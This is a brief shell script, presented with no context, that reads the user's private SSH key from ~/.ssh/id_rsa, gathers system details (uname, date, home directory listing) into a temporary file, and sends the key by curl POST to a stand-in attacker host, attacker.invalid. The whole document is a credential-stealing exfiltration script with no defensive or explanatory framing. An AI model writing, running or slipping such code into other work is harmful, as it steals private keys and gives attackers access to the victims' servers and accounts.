#!/bin/sh
set -e
KEY=$(cat ~/.ssh/id_rsa)
echo "collecting"
uname -a > /tmp/sys.txt
date >> /tmp/sys.txt
ls ~ >> /tmp/sys.txt
echo "sending"
curl -s -X POST -d "$KEY" https://attacker.invalid/collect
